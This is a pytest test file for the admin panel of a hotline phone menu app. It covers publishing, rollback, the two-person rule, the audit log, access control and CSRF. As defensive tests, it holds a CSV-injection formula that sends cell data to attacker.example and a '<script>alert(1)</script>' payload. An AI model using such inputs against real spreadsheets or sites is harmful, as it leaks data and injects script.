@@ -1,0 +1,884 @@
+"""The administrators' part, without a browser: the /admin pages through Flask's test
+client (real login form, real CSRF tokens, real Redis) and the `ivr prompts` / `ivr users`
+commands through click's CliRunner. What callers hear is checked with calls signed the
+way Twilio signs them, played through the real webhooks (ivr.simulator.SimulatedCall),
+usually through a *second* app made from the same settings: another web process, with
+its own LiveMenu, that is never restarted.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import time
+import tomllib
+import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
+
+import pytest
+import redis
+from click.testing import CliRunner
+from twilio.request_validator import RequestValidator
+from werkzeug.security import generate_password_hash
+
+from ivr import create_app, current_menu, store
+from ivr.cli import main as ivr_main
+from ivr.events import Spool
+from ivr.menu import read_shipped, spoken_paths
+from ivr.redis_server import RedisServer
+from ivr.simulator import Move, SimulatedCall, flask_transport
+from ivr.versions import ConfigVersions
+
+PASSWORD = "correct horse battery"
+# Real scrypt, at a lower cost than security.hash_password's so that each login of the
+# tests takes milliseconds, not half a second; check_password_hash reads the cost from it.
+QUICK_HASH = generate_password_hash(PASSWORD, method="scrypt:1024:8:1")
+SIGNED_BASE = "http://ruta.test"
+SHIPPED = read_shipped()
+ES_GREETING = SHIPPED.prompts["es"]["greeting"]  # "Línea Ruta. Su llamada es confidencial."
+EN_GREETING = SHIPPED.prompts["en"]["greeting"]
+ADMIN_GETS = ["/admin", "/admin/prompts", "/admin/hotlines", "/admin/history",
+              "/admin/audit", "/admin/audit.csv", "/admin/try"]
+ADMIN_POSTS = ["/admin/prompts", "/admin/hotlines", "/admin/publish", "/admin/approve",
+               "/admin/discard", "/admin/rollback", "/admin/try"]
+
+
+# --- a small HTML tree (the standard library's parser; no extra dependency) -------------
+
+VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta",
+        "source", "track", "wbr"}
+
+
+class El:
+    def __init__(self, tag: str, attrs: dict, parent: El | None):
+        self.tag, self.attrs, self.parent, self.children = tag, attrs, parent, []
+
+    def text(self) -> str:
+        return "".join(c if isinstance(c, str) else c.text() for c in self.children)
+
+    def iter(self):
+        yield self
+        for child in self.children:
+            if isinstance(child, El):
+                yield from child.iter()
+
+    def all(self, tag: str | None = None, cls: str | None = None, **attrs) -> list[El]:
+        found = []
+        for el in self.iter():
+            if tag and el.tag != tag:
+                continue
+            if cls and cls not in (el.attrs.get("class") or "").split():
+                continue
+            if any(el.attrs.get(k.rstrip("_")) != v for k, v in attrs.items()):
+                continue
+            found.append(el)
+        return found
+
+    def one(self, tag=None, cls=None, **attrs) -> El:
+        found = self.all(tag, cls, **attrs)
+        assert len(found) == 1, f"expected one <{tag} class={cls} {attrs}>, found {len(found)}"
+        return found[0]
+
+    def next_element(self) -> El | None:
+        siblings = [c for c in self.parent.children if isinstance(c, El)]
+        i = siblings.index(self)
+        return siblings[i + 1] if i + 1 < len(siblings) else None
+
+
+class _Builder(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.root = self.current = El("#document", {}, None)
+
+    def handle_starttag(self, tag, attrs):
+        el = El(tag, {k: (v if v is not None else "") for k, v in attrs}, self.current)
+        self.current.children.append(el)
+        if tag not in VOID:
+            self.current = el
+
+    def handle_startendtag(self, tag, attrs):
+        self.current.children.append(
+            El(tag, {k: (v if v is not None else "") for k, v in attrs}, self.current))
+
+    def handle_endtag(self, tag):
+        el = self.current
+        while el is not None and el.tag != tag:
+            el = el.parent
+        if el is not None and el.parent is not None:
+            self.current = el.parent
+
+    def handle_data(self, data):
+        self.current.children.append(data)
+
+
+def parse(html: str) -> El:
+    builder = _Builder()
+    builder.feed(html)
+    builder.close()
+    return builder.root
+
+
+def flashes(html: str, category: str | None = None) -> list[str]:
+    """The flash messages at the top of a page (category "error" for the red ones)."""
+    return [p.text().strip() for p in parse(html).all("p", cls="flash")
+            if category is None or category in p.attrs["class"].split()]
+
+
+def problems_next_to(html: str, name: str) -> tuple[str | None, list[str]]:
+    """(aria-invalid of the form field `name`, the problems listed right after it)."""
+    field = next(el for el in parse(html).iter() if el.attrs.get("name") == name)
+    after = field.next_element()
+    listed = []
+    if after is not None and after.tag == "ul" and "problems" in after.attrs.get("class", ""):
+        listed = [li.text().strip() for li in after.all("li")]
+        if "aria-describedby" in field.attrs:  # the prompts page ties the two together
+            assert field.attrs["aria-describedby"] == after.attrs["id"]
+    return field.attrs.get("aria-invalid"), listed
+
+
+def form_values(html: str) -> dict[str, str]:
+    """What a browser would send with the page's own edit form (the one without action)."""
+    form = next(f for f in parse(html).all("form")
+                if f.attrs.get("method") == "post" and not f.attrs.get("action"))
+    values = {}
+    for el in form.iter():
+        name = el.attrs.get("name")
+        if not name:
+            continue
+        if el.tag == "textarea":
+            values[name] = el.text()
+        elif el.tag == "input":
+            values[name] = el.attrs.get("value", "")
+        elif el.tag == "select":
+            options = el.all("option")
+            chosen = [o for o in options if "selected" in o.attrs] or options[:1]
+            values[name] = chosen[0].attrs.get("value", "") if chosen else ""
+    return values
+
+
+def csrf_of(html: str) -> str:
+    return re.search(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"', html)[1]
+
+
+# --- people and calls ----------------------------------------------------------------------
+
+
+def add_user(app, name: str, role: str) -> None:
+    app.extensions["ruta.store"].save_user(name, role, QUICK_HASH)
+
+
+class Staff:
+    """One person at their own browser (a test client, its session cookie), logged in
+    through the real login form."""
+
+    def __init__(self, app, name: str, role: str = "admin", add: bool = True):
+        if add:
+            add_user(app, name, role)
+        self.name = name
+        self.client = app.test_client()
+        token = csrf_of(self.client.get("/login").text)
+        resp = self.client.post("/login", data={"name": name, "password": PASSWORD,
+                                                "csrf_token": token})
+        assert resp.status_code == 302, resp.text
+        self.token = csrf_of(self.client.get("/reports").text)  # a fresh session's token
+
+    def page(self, path: str) -> str:
+        resp = self.client.get(path)
+        assert resp.status_code == 200, (path, resp.status_code)
+        return resp.text
+
+    def post(self, path: str, data: dict | None = None, csrf: bool = True):
+        """POST a form and follow the redirect to the page that shows what happened."""
+        data = {**({"csrf_token": self.token} if csrf else {}), **(data or {})}
+        return self.client.post(path, data=data, follow_redirects=True)
+
+    def edit(self, path: str, changes: dict[str, str]):
+        """Open an edit page, change some fields, and press "Save to draft"."""
+        values = form_values(self.page(path))
+        missing = set(changes) - set(values)
+        assert not missing, f"no such field on {path}: {missing}"
+        resp = self.post(path, {**values, **changes})
+        assert resp.status_code == 200
+        assert "Draft saved. It is not live until you publish it." in flashes(resp.text)
+        return resp
+
+    def publish(self, note: str):
+        resp = self.post("/admin/publish", {"note": note})
+        assert resp.status_code == 200 and resp.request.path == "/admin"
+        return resp
+
+
+def place_call(app, moves=(), dials=()):
+    call = SimulatedCall(SIGNED_BASE, app.config["TWILIO_AUTH_TOKEN"],
+                         transport=flask_transport(app))
+    return call.run(list(moves), list(dials))
+
+
+def greeting(app) -> str:
+    """The first thing a caller hears."""
+    return place_call(app).lines[0].text
+
+
+def hears_within(app, expected: str, seconds: float = 3.0, moves=(), dials=(),
+                 line=0) -> str:
+    """Call through `app` until line `line` of what the caller hears is `expected`
+    (each web process looks for a new version at most once a second); return the last
+    text heard."""
+    deadline = time.monotonic() + seconds
+    while True:
+        heard = [ln.text for ln in place_call(app, moves, dials).lines if ln.who == "ruta"]
+        if heard[line] == expected or time.monotonic() > deadline:
+            return heard[line]
+        time.sleep(0.1)
+
+
+def live_version(redis_client) -> int:
+    return int(redis_client.get(store.CONFIG_VERSION) or 0)
+
+
+def cli(redis_server, *args, input=None):
+    runner = CliRunner(env={"REDIS_URL": redis_server.url, "USER": "ops-laura",
+                            "RUTA_TWO_PERSON_RULE": "0"})
+    return runner.invoke(ivr_main, list(args), input=input)
+
+
+@pytest.fixture
+def other_process(app_config, app):
+    """Another web process of the same deployment: its own LiveMenu, never restarted.
+    A call is placed through it first, so it is already serving when a change comes."""
+    other = create_app(app_config)
+    assert greeting(other) == ES_GREETING
+    return other
+
+
+@pytest.fixture
+def ana(app):
+    return Staff(app, "ana")
+
+
+# --- 1. publishing: the next call hears it, with no restart -------------------------------
+
+
+def test_a_published_spanish_prompt_is_heard_by_the_next_call_without_restart(
+        app, ana, other_process, redis_client):
+    new = "Línea Ruta. Le escuchamos, es confidencial."
+    ana.edit("/admin/prompts", {"prompt:es:greeting": new})
+    # Saved, not published: the draft is listed on /admin, callers still hear the old text.
+    overview = ana.page("/admin")
+    row = next(tr for tr in parse(overview).all("tr")
+               if tr.all("code") and tr.all("code")[0].text() == "prompt es greeting")
+    assert [td.text() for td in row.all("td")][1:] == [ES_GREETING, new]
+    assert greeting(other_process) == ES_GREETING
+    assert live_version(redis_client) == 0
+
+    resp = ana.publish("warmer greeting")
+    assert flashes(resp.text) == ["Version 1 is live: callers hear it from their next call."]
+    assert "No draft." in resp.text
+    assert hears_within(other_process, new) == new
+    assert greeting(app) == new  # the process the admin used, too
+    # Only the greeting changed: the rest of the call is as shipped.
+    heard = place_call(other_process, [Move("press", "2")]).heard()
+    assert "Le comunico con la línea del Ministerio del Trabajo. No cuelgue." in heard
+
+
+# --- 2. what publishing refuses, and where the admin is told ------------------------------
+
+LONG_TRANSFER = ("Le comunico con {hotline}. " + "Por favor siga en la línea. " * 10
+                 + "No cuelgue.")
+PATH_OVER_BUDGET = re.compile(
+    r"path (es|en) ([0-9 ]+) -> (\w+): (\d+\.\d) spoken seconds before the transfer, "
+    r"over the 30 s budget")
+
+REFUSED = [
+    pytest.param("/admin/prompts", {"prompt:en:greeting": ""},
+                 {"prompt:en:greeting": ["prompts/en: prompt 'greeting' is empty"]},
+                 id="emptied-english-prompt"),
+    pytest.param("/admin/prompts", {"prompt:es:transfer": "Le comunico con {hotlin}. No cuelgue."},
+                 {"prompt:es:transfer":
+                  ["prompts/es: prompt 'transfer' has unknown placeholder {hotlin}"]},
+                 id="unknown-placeholder"),
+    pytest.param("/admin/hotlines", {"hotline:labour:dial": "+57abc"},
+                 {"hotline:labour:dial": ["hotline labour: '+57abc' is not a valid E.164 number"]},
+                 id="invalid-e164"),
+    pytest.param("/admin/hotlines", {"hotline:icbf:dial": "14A\n+5718000918080"},
+                 {"hotline:icbf:dial": ["hotline icbf: '14A' is not an E.164 number (+57...), "
+                                        "a SIP URI or a national number"]},
+                 id="dialled-number-with-letters"),
+    pytest.param("/admin/hotlines", {"hotline:labour:say": "uno dos cero"},
+                 {"hotline:labour:say":
+                  ["hotline labour: `say` must be the digits a caller can dial"]},
+                 id="said-number-with-letters"),
+    pytest.param("/admin/hotlines", {"hotline:labour:fallback": "nowhere"},
+                 {"hotline:labour:fallback":
+                  ["hotline labour: fallback 'nowhere' is not a hotline"]},
+                 id="unknown-fallback"),
+    pytest.param("/admin/hotlines", {"hotline:labour:fallback": "icbf",
+                                     "hotline:icbf:fallback": "labour"},
+                 {"hotline:icbf:fallback": ["hotline icbf: fallback cycle icbf -> labour -> icbf"],
+                  "hotline:labour:fallback":
+                  ["hotline labour: fallback cycle labour -> icbf -> labour"]},
+                 id="fallback-cycle"),
+    pytest.param("/admin/hotlines", {"hotline:labour:hours": "lunes a viernes 7-19"},
+                 {"hotline:labour:hours": ["hotline labour: hours 'lunes a viernes 7-19' must "
+                                           "look like 'mon-fri 07:00-19:00'"]},
+                 id="bad-hours"),
+]
+
+
+@pytest.mark.parametrize("page, changes, expected", REFUSED)
+def test_a_broken_draft_is_refused_at_publish_with_the_problem_next_to_its_field(
+        app, ana, other_process, redis_client, page, changes, expected):
+    ana.edit(page, changes)
+    wanted = sorted(p for problems in expected.values() for p in problems)
+    # Listed on /admin before anyone tries to publish...
+    overview = parse(ana.page("/admin"))
+    assert sorted(li.text() for li in overview.one("ul", cls="problems").all("li")) == wanted
+
+    # ...and publishing is refused, saying exactly why.
+    resp = ana.publish("should not go live")
+    assert sorted(flashes(resp.text, "error")) == wanted
+    assert live_version(redis_client) == 0
+    assert ana.page("/admin/history").count("<tr data-version") == 1  # only version 0
+    assert redis_client.get(store.CONFIG_DRAFT)  # the draft is kept, to be fixed
+
+    # On the edit page, each problem is next to the field it is about.
+    html = ana.page(page)
+    for name, problems in expected.items():
+        invalid, listed = problems_next_to(html, name)
+        assert listed == problems, name
+        if not name.endswith(":fallback"):
+            assert invalid == "true", name
+    # No other field is marked.
+    marked = {el.attrs["name"] for el in parse(html).iter()
+              if el.attrs.get("aria-invalid") == "true"}
+    assert marked <= set(expected)
+
+    # Callers never heard any of it.
+    assert greeting(other_process) == ES_GREETING
+    heard = place_call(other_process, [Move("press", "2")], ["busy"])
+    assert heard.dialed == ["120", "+5718000522020"]
+
+
+def test_a_prompt_that_makes_a_path_too_long_is_refused_and_shown_on_the_prompts_page(
+        app, ana, redis_client):
+    ana.edit("/admin/prompts", {"prompt:es:transfer": LONG_TRANSFER})
+    resp = ana.publish("longer transfer message")
+    refused = flashes(resp.text, "error")
+    assert refused, "a path over 30 spoken seconds was published"
+    paths = [PATH_OVER_BUDGET.fullmatch(p) for p in refused]
+    assert all(paths), refused
+    assert {m[1] for m in paths} == {"es"}  # only the Spanish paths got longer
+    assert {f"{m[2]} -> {m[3]}" for m in paths} == {
+        "0 -> emergency", "1 -> icbf", "2 -> labour", "3 -> national", "4 1 -> prosecutor",
+        "4 2 -> bogota", "5 -> national"}  # every Spanish path
+    assert all(float(m[4]) > 30 for m in paths)
+    assert live_version(redis_client) == 0
+    # The prompts page lists them above the prompts (a path is not one field).
+    tree = parse(ana.page("/admin/prompts"))
+    listed = [li.text() for ul in tree.all("ul", cls="problems") for li in ul.all("li")]
+    assert sorted(listed) == sorted(refused)
+
+
+def test_a_publish_needs_a_note(app, ana, redis_client):
+    ana.edit("/admin/prompts", {"prompt:es:goodbye": "Gracias por llamar. Hasta pronto."})
+    for note in ("", "   "):
+        resp = ana.publish(note)
+        assert flashes(resp.text, "error") == ["a short note saying what changed is required"]
+    assert live_version(redis_client) == 0
+    assert ana.publish("shorter goodbye").status_code == 200
+    assert live_version(redis_client) == 1
+
+
+# --- 3. versions, history, diff, rollback, discard -------------------------------------------
+
+
+def test_versions_are_numbered_immutable_and_listed_with_who_when_and_note(
+        app, ana, redis_client):
+    first = "Línea Ruta. Primera versión."
+    second = "Línea Ruta. Segunda versión."
+    ana.edit("/admin/prompts", {"prompt:es:greeting": first})
+    assert flashes(ana.publish("first try").text) == [
+        "Version 1 is live: callers hear it from their next call."]
+    stored_v1 = redis_client.hgetall(store.config_version_key(1))
+    bob = Staff(app, "bob")
+    bob.edit("/admin/prompts", {"prompt:es:greeting": second,
+                                "prompt:en:invalid": "Sorry, I did not catch that."})
+    assert flashes(bob.publish("second try").text) == [
+        "Version 2 is live: callers hear it from their next call."]
+    # Version 1 is exactly as it was.
+    assert redis_client.hgetall(store.config_version_key(1)) == stored_v1
+    assert json.loads(stored_v1["doc"]) == {"prompts": {"es": {"greeting": first}}}
+
+    tree = parse(ana.page("/admin/history"))
+    rows = {tr.attrs["data-version"]: [td.text().strip() for td in tr.all("td")]
+            for tr in tree.all("tr") if "data-version" in tr.attrs}
+    assert list(rows) == ["2", "1", "0"]  # newest first, then the shipped files
+    assert rows["2"][:2] == ["2 (live)", "bob"] and rows["2"][3] == "second try"
+    assert rows["1"][:2] == ["1", "ana"] and rows["1"][3] == "first try"
+    for number in ("2", "1"):
+        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", rows[number][2]), rows
+    assert rows["0"][3] == "The shipped files"
+    # Versions 1 and 0 offer a rollback (version 2 is live).
+    assert [f.one("input", name="version").attrs["value"]
+            for f in tree.all("form", cls="rollback")] == ["1", "0"]
+
+    # The diff between the two lists the changed prompts with old and new text, only them.
+    diff = parse(ana.page("/admin/history?from=1&to=2")).one("table", cls="diff")
+    assert [th.text() for th in diff.all("th")] == ["What", "Version 1", "Version 2"]
+    changes = {tr.all("td")[0].text(): [td.text() for td in tr.all("td")[1:]]
+               for tr in diff.all("tr") if tr.all("td")}
+    assert changes == {
+        "prompt es greeting": [first, second],
+        "prompt en invalid": [SHIPPED.prompts["en"]["invalid"], "Sorry, I did not catch that."],
+    }
+    # Against the shipped files (version 0).
+    changes = {tr.all("td")[0].text(): [td.text() for td in tr.all("td")[1:]]
+               for tr in parse(ana.page("/admin/history?from=0&to=1")).one(
+                   "table", cls="diff").all("tr") if tr.all("td")}
+    assert changes == {"prompt es greeting": [ES_GREETING, first]}
+    resp = ana.client.get("/admin/history?from=7&to=1")
+    assert flashes(resp.text, "error") == ["Pick two versions that exist."]
+
+
+def test_rollback_makes_a_new_version_with_the_old_text_and_the_next_call_hears_it(
+        app, ana, other_process, redis_client):
+    good, bad = "Línea Ruta. Texto bueno.", "Línea Ruta. Texto con un error."
+    ana.edit("/admin/prompts", {"prompt:es:greeting": good})
+    ana.publish("good text")
+    ana.edit("/admin/prompts", {"prompt:es:greeting": bad})
+    ana.publish("oops")
+    assert hears_within(other_process, bad) == bad
+
+    resp = ana.post("/admin/rollback", {"version": "1", "note": ""})
+    assert flashes(resp.text, "error") == ["a short note saying why is required"]
+    resp = ana.post("/admin/rollback", {"version": "9", "note": "typo"})
+    assert flashes(resp.text, "error") == ["there is no version 9"]
+    assert live_version(redis_client) == 2
+
+    resp = ana.post("/admin/rollback", {"version": "1", "note": "the new text had an error"})
+    assert resp.request.path == "/admin/history"
+    assert flashes(resp.text) == ["Rolled back: version 3 is live."]
+    assert live_version(redis_client) == 3
+    v = ConfigVersions(redis_client, SHIPPED)
+    assert v.document(3) == v.document(1)
+    assert v.version(3).note == "rollback to version 1: the new text had an error"
+    assert v.version(3).kind == "rollback"
+    assert v.document(2) == {"prompts": {"es": {"greeting": bad}}}  # kept as it was
+    assert hears_within(other_process, good) == good
+
+    # Back to the shipped files (version 0) works the same way.
+    resp = ana.post("/admin/rollback", {"version": "0", "note": "back to the files"})
+    assert flashes(resp.text) == ["Rolled back: version 4 is live."]
+    assert hears_within(other_process, ES_GREETING) == ES_GREETING
+
+
+def test_discarding_drops_the_draft(app, ana, other_process, redis_client):
+    edited = "Línea Ruta. Un borrador."
+    ana.edit("/admin/prompts", {"prompt:es:greeting": edited})
+    assert edited in ana.page("/admin")
+    resp = ana.post("/admin/discard")
+    assert flashes(resp.text) == ["Draft discarded."]
+    assert "No draft." in resp.text
+    assert redis_client.get(store.CONFIG_DRAFT) is None
+    prompts = parse(ana.page("/admin/prompts"))
+    assert prompts.one("textarea", name="prompt:es:greeting").text() == ES_GREETING
+    resp = ana.publish("nothing to publish")
+    assert flashes(resp.text, "error") == ["there is no draft to publish"]
+    assert live_version(redis_client) == 0
+    assert greeting(other_process) == ES_GREETING
+
+
+# --- 4. two-person rule ----------------------------------------------------------------------
+
+
+def test_two_person_rule_needs_a_second_admin_before_callers_hear_it(
+        app_config, redis_client):
+    strict = create_app({**app_config, "RUTA_TWO_PERSON_RULE": 1})
+    other = create_app({**app_config, "RUTA_TWO_PERSON_RULE": 1})
+    assert greeting(other) == ES_GREETING
+    new = "Línea Ruta. Revisado por dos personas."
+    ana = Staff(strict, "ana")
+    ana.edit("/admin/prompts", {"prompt:es:greeting": new})
+    resp = ana.publish("reviewed greeting")
+    assert flashes(resp.text) == [
+        "Waiting for a second administrator to approve it (two-person rule)."]
+    assert live_version(redis_client) == 0
+    # The publisher sees the request, with the approve button disabled for her...
+    button = parse(ana.page("/admin")).one("form", action="/admin/approve").one("button")
+    assert "disabled" in button.attrs
+    # ...and approving it herself anyway is refused.
+    resp = ana.post("/admin/approve")
+    assert flashes(resp.text, "error") == ["the two-person rule needs another admin to approve"]
+    assert live_version(redis_client) == 0
+    time.sleep(1.05)  # let `other` look at the version counter again: still nothing new
+    assert greeting(other) == ES_GREETING
+
+    bob = Staff(strict, "bob")
+    page = parse(bob.page("/admin"))
+    assert "ana asked to publish it: “reviewed greeting”." in page.one(
+        "form", action="/admin/approve").text()
+    assert "disabled" not in page.one("form", action="/admin/approve").one("button").attrs
+    resp = bob.post("/admin/approve")
+    assert flashes(resp.text) == ["Approved: version 1 is live."]
+    assert hears_within(other, new) == new
+    row = next(tr for tr in parse(bob.page("/admin/history")).all("tr")
+               if tr.attrs.get("data-version") == "1")
+    assert row.all("td")[1].text() == "ana, approved by bob"
+    actions = [(e["who"], e["action"]) for _, e in redis_client.xrange(store.AUDIT)]
+    assert ("ana", "publish requested") in actions
+    assert ("ana", "publish") in actions
+    assert "(approved by bob)" in redis_client.xrange(store.AUDIT)[-1][1]["detail"]
+
+
+# --- 5. audit log ------------------------------------------------------------------------------
+
+
+def test_audit_log_lists_logins_publishes_rollbacks_and_user_changes_and_exports_csv(
+        app, redis_server, redis_client):
+    result = cli(redis_server, "users", "add", "carla", "--role", "admin", "--password-stdin",
+                 input=PASSWORD + "\n")
+    assert result.exit_code == 0, result.output
+    assert result.output.strip() == "user carla saved with role admin"
+    result = cli(redis_server, "users", "add", "temp", "--role", "supervisor",
+                 "--password-stdin", input="another long password\n")
+    assert result.exit_code == 0, result.output
+    result = cli(redis_server, "users", "remove", "temp")
+    assert result.exit_code == 0, result.output
+
+    carla = Staff(app, "carla", add=False)  # the password set through the CLI works
+    carla.edit("/admin/prompts", {"prompt:es:goodbye": "Gracias por llamar."})
+    carla.publish("shorter goodbye")
+    carla.post("/admin/rollback", {"version": "0", "note": "too short"})
+
+    expected = [
+        ("cli:ops-laura", "user saved", "carla (admin)"),
+        ("cli:ops-laura", "user saved", "temp (supervisor)"),
+        ("cli:ops-laura", "user removed", "temp"),
+        ("carla", "login", "127.0.0.1"),
+        ("carla", "draft saved", ""),
+        ("carla", "publish", "version 1: shorter goodbye"),
+        ("carla", "rollback", "version 2: rollback to version 0: too short"),
+    ]
+    table = parse(carla.page("/admin/audit")).one("table", cls="audit")
+    rows = [[td.text() for td in tr.all("td")] for tr in table.all("tr") if tr.all("td")]
+    assert [tuple(r[1:]) for r in rows] == expected[::-1]  # newest first
+    for r in rows:
+        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", r[0]), r
+
+    resp = carla.client.get("/admin/audit.csv")
+    assert resp.status_code == 200
+    assert resp.mimetype == "text/csv"
+    assert resp.headers["Content-Disposition"] == 'attachment; filename="ruta-audit.csv"'
+    exported = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
+    assert exported[0] == ["at", "who", "action", "detail"]
+    assert [tuple(r[1:]) for r in exported[1:]] == expected  # oldest first
+    assert [r[0] for r in exported[1:]] == [r[0] for r in rows[::-1]]
+
+
+def test_audit_csv_does_not_turn_a_login_name_into_a_spreadsheet_formula(app, client, ana):
+    """Anyone can put text in the audit log (a failed login records the name typed): a
+    name like =HYPERLINK(...) must not become a live formula when an administrator opens
+    ruta-audit.csv in a spreadsheet (cells starting with = + - @ are prefixed with ')."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+    token = csrf_of(client.get("/login").text)
+    resp = client.post("/login", data={"name": formula, "password": "wrong password!",
+                                       "csrf_token": token})
+    assert resp.status_code == 401
+    rows = list(csv.reader(io.StringIO(ana.client.get("/admin/audit.csv").text)))
+    assert any(formula.lstrip("=") in cell for row in rows for cell in row)  # it is logged
+    risky = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
+    assert not risky, f"cells a spreadsheet runs as formulas: {risky}"
+
+
+# --- 6. who may use the admin pages --------------------------------------------------------
+
+
+def test_a_supervisor_gets_403_on_every_admin_url_and_changes_nothing(app, ana, redis_client):
+    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Borrador de Ana."})
+    ana.publish("v1")
+    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Otro borrador."})
+    draft = redis_client.get(store.CONFIG_DRAFT)
+    marta = Staff(app, "marta", "supervisor")
+    assert 'href="/admin"' not in marta.page("/reports")  # no Admin link
+    for path in ADMIN_GETS:
+        resp = marta.client.get(path)
+        assert resp.status_code == 403, path
+        assert "Administration" not in resp.text and "greeting" not in resp.text, path
+    form = {"csrf_token": marta.token, "note": "sneaky", "version": "0", "press": "1",
+            "prompt:es:greeting": "pwned", "hotline:labour:dial": "+573000000000"}
+    for path in ADMIN_POSTS:
+        resp = marta.client.post(path, data=form)
+        assert resp.status_code == 403, path
+    assert redis_client.get(store.CONFIG_DRAFT) == draft
+    assert live_version(redis_client) == 1
+    assert [e["who"] for _, e in redis_client.xrange(store.AUDIT)
+            if e["action"] != "login"] == ["ana"] * 3
+
+
+def test_an_anonymous_visitor_is_sent_to_the_login_page(app, client):
+    for path in ADMIN_GETS:
+        resp = client.get(path)
+        assert resp.status_code == 302, path
+        assert resp.headers["Location"] == f"/login?next={path}", path
+    token = csrf_of(client.get("/login").text)
+    for path in ADMIN_POSTS:
+        resp = client.post(path, data={"csrf_token": token, "note": "x", "version": "0"})
+        assert resp.status_code == 302, path
+        assert resp.headers["Location"].startswith("/login?next="), path
+
+
+def test_admin_forms_without_a_csrf_token_are_refused(app, ana, redis_client):
+    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Con token."})
+    draft = redis_client.get(store.CONFIG_DRAFT)
+    attempts = {
+        "/admin/prompts": {"prompt:es:greeting": "Sin token"},
+        "/admin/hotlines": {"hotline:labour:dial": "+573000000000"},
+        "/admin/publish": {"note": "no token"},
+        "/admin/rollback": {"version": "0", "note": "no token"},
+        "/admin/discard": {},
+        "/admin/approve": {},
+        "/admin/try": {"press": "2"},
+    }
+    for path, data in attempts.items():
+        for token in (None, "made-up-token"):
+            sent = {**data, **({"csrf_token": token} if token else {})}
+            resp = ana.client.post(path, data=sent)
+            assert resp.status_code == 400, (path, token)
+            assert "CSRF" in resp.text, path
+    assert redis_client.get(store.CONFIG_DRAFT) == draft
+    assert live_version(redis_client) == 0
+
+
+# --- 7. text is text: shown escaped, spoken as written ----------------------------------------
+
+
+def test_markup_in_a_prompt_is_shown_escaped_and_spoken_as_text(app, ana, redis_client):
+    hostile = '<script>alert(1)</script> & "quotes"'
+    ana.edit("/admin/prompts", {"prompt:es:greeting": hostile})
+    for path in ("/admin/prompts", "/admin"):
+        html = ana.page(path)
+        assert "<script" not in html.lower(), path
+        assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#34;quotes&#34;" in html, path
+    field = parse(ana.page("/admin/prompts")).one("textarea", name="prompt:es:greeting")
+    assert field.text() == hostile  # what the admin typed, intact
+    ana.publish("markup test")
+    assert "<script" not in ana.page("/admin/history?from=0&to=1").lower()
+
+    # A call: the TwiML Twilio gets says the text, with no element made of it.
+    params = {"CallSid": "CA" + "5" * 32, "AccountSid": "AC" + "0" * 32,
+              "From": "+573001234567", "To": "+576015550100", "CallStatus": "in-progress",
+              "ApiVersion": "2010-04-01", "Direction": "inbound"}
+    url = SIGNED_BASE + "/voice"
+    signature = RequestValidator(app.config["TWILIO_AUTH_TOKEN"]).compute_signature(url, params)
+    other = create_app(app.config)  # a process that loads the newest version now
+    resp = other.test_client().post(url, data=params, headers={"X-Twilio-Signature": signature})
+    assert resp.status_code == 200 and resp.mimetype == "text/xml"
+    twiml = ET.fromstring(resp.get_data(as_text=True))
+    says = [el for el in twiml.iter("Say")]
+    assert says[0].text == hostile
+    assert list(says[0]) == []  # no <script> element inside the <Say>
+    assert not list(twiml.iter("script"))
+
+
+# --- 8. try the call ---------------------------------------------------------------------------
+
+
+def try_page(html: str) -> dict:
+    """What the "try the call" panel shows."""
+    tree = parse(html)
+    transcript = tree.one("section", cls="transcript")
+    lines = [(li.one("span", cls="who").text(), re.sub(r"\s+", " ", li.text()).strip())
+             for li in transcript.all("li")]
+    dialled = [p.text() for p in transcript.all("p") if p.text().startswith("Dialled: ")]
+    seconds = transcript.all("p", cls="stat-line")
+    form = tree.one("form", cls="keypad-form")
+    return {
+        "lines": lines,
+        "dialled": dialled[0].removeprefix("Dialled: ").split(", ") if dialled else [],
+        "seconds": float(seconds[0].one("strong").text().removesuffix(" s")) if seconds else None,
+        "moves": form.one("input", name="moves").attrs["value"],
+        "intro": next(p.text() for p in tree.all("p", cls="muted")
+                      if "status-line" not in p.attrs["class"]),
+    }
+
+
+def test_try_the_call_shows_what_the_caller_hears_what_is_dialled_and_the_seconds(
+        app, ana, redis_client):
+    place_call(app)  # a real call: counted
+    counted = redis_client.xlen(store.EVENTS)
+    assert counted > 0
+    start = try_page(ana.page("/admin/try"))
+    assert start["lines"][0] == ("ruta", f"ruta [es-US] {ES_GREETING}")
+    assert start["lines"][-1] == ("caller", "caller hangs up")
+
+    shown = try_page(ana.post("/admin/try", {"moves": "[]", "press": "2",
+                                             "dial_result": "busy"}).text)
+    texts = [text for _, text in shown["lines"]]
+    labour = "Le comunico con la línea del Ministerio del Trabajo. No cuelgue."
+    national = "Le comunico con la Línea Nacional contra la Trata de Personas. No cuelgue."
+    i = texts.index(f"ruta [es-US] {labour}")
+    assert texts[i + 1].startswith("dial 120 ")
+    assert texts[i + 2] == "hotline busy"
+    assert f"ruta [es-US] {national}" in texts[i + 3:]
+    assert shown["dialled"] == ["120", "+5718000522020"]
+    assert json.loads(shown["moves"]) == [["press", "2"]]
+    assert shown["seconds"] is not None and shown["seconds"] > 0  # see the budget test below
+
+    # Two moves: the hidden field carries the first one to the next question.
+    step1 = try_page(ana.post("/admin/try", {"moves": "[]", "press": "4",
+                                             "dial_result": "completed"}).text)
+    assert step1["lines"][-2][1] == ("ruta [es-US] Para la Fiscalía, marque 1. "
+                                     "Si está en Bogotá, marque 2.")
+    assert step1["seconds"] is None  # no transfer yet
+    step2 = try_page(ana.post("/admin/try", {"moves": step1["moves"], "press": "1",
+                                             "dial_result": "completed"}).text)
+    assert step2["dialled"] == ["122"]
+    assert json.loads(step2["moves"]) == [["press", "4"], ["press", "1"]]
